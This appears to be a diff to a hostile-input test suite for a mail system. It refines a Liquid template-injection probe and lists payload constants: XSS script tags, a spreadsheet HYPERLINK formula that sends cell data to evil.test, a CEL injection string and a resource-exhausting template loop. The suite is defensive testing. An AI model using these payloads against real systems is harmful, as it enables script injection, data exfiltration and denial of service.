@@ -9,7 +9,9 @@ from tests.hostile.attack import Attack
 from tests.hostile.target import Target
 from tests.support.wait import until
 
-LIQUID = "{{7*7}}{%for-i-in-(1..99999999)%}{{unsubscribe_url}}"
+# A product that no token and no time of day holds by chance.
+LIQUID = "{{7919*7907}}{%for-i-in-(1..99999999)%}{{unsubscribe_url}}"
+PRODUCT = "62615533"
 SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>"
 FORMULA = '=HYPERLINK("http://evil.test/?x="&A1,"Plantedformula")'
 CEL = '" || true || "'
@@ -29,8 +31,8 @@ async def _planted(target: Target, address: str, value: str) -> Caught:
 async def _liquid(target: Target) -> str:
     letter = await _planted(target, "liquid@hostile.test", LIQUID)
     whole = letter.summary.subject + letter.text
-    literal = whole.count("{{7*7}}{%for-i-in-(1..99999999)%}{{unsubscribe_url}}")
-    return f"written out {literal} times, 49 {whole.count('49')} times"
+    literal = whole.count(LIQUID)
+    return f"written out {literal} times, worked out {whole.count(PRODUCT)} times"
 
 
 async def _header(target: Target) -> str:
@@ -149,7 +151,7 @@ def _file(name: str, kept: str) -> Attack:
 
 
 CONTENT = [
-    Attack("template", "Liquid in every field", "written out [1-9] times, 49 0 times", _liquid),
+    Attack("template", "Liquid in every field", "written out [1-9] times, worked out 0 times", _liquid),
     Attack("header", "line breaks and Bcc in every field", "bcc False, x-evil False, to others 0", _header),
     Attack("header", "an encoded word that breaks a line", "one line", _subject),
     Attack("html", "script in every field, on the mailbox's pages", r"200 \['harmless'\]", _page),
